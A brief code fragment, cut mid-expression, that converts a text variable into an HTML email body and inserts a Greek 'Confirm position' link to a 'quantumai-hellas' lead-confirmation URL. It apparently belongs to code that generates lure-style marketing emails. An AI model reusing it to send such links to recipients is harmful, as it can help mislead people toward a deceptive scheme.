                       + t40.replace("\n\n", "</p><p>").replace("\n", "<br>").replace("https://quantumai-hellas.com/gr/confirm?lead=GR-88214", '<a href="https://quantumai-hellas.com/gr/confirm?lead=GR-88214">Επιβεβαίωση θέσης</a>')
                       + "</p></body></html>")))
